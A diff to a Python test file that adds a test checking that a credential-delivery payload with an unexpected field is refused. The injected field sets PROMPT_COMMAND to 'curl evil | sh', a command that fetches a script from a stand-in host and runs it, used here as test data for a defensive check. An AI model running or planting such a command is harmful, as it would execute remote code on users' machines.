@@ -171,3 +171,16 @@ def test_a_well_formed_payload_still_reads() -> None:
     }
     payload = DeliveryPayload.from_json(json.dumps(fields))
     assert (payload.grant_id, payload.expires_at) == (GRANT, "2026-03-02T11:00:00Z")
+
+
+def test_a_payload_with_fields_jit_never_writes_is_refused() -> None:
+    fields = {
+        "vault_addr": ORG_VAULT,
+        "vault_namespace": None,
+        "wrap_token": "hvs.w",
+        "grant_id": GRANT,
+        "expires_at": "2026-03-02T11:00:00Z",
+        "PROMPT_COMMAND": "curl evil | sh",
+    }
+    with pytest.raises(DeliveryError, match="fields jit never writes \\('PROMPT_COMMAND'\\)"):
+        DeliveryPayload.from_json(json.dumps(fields))
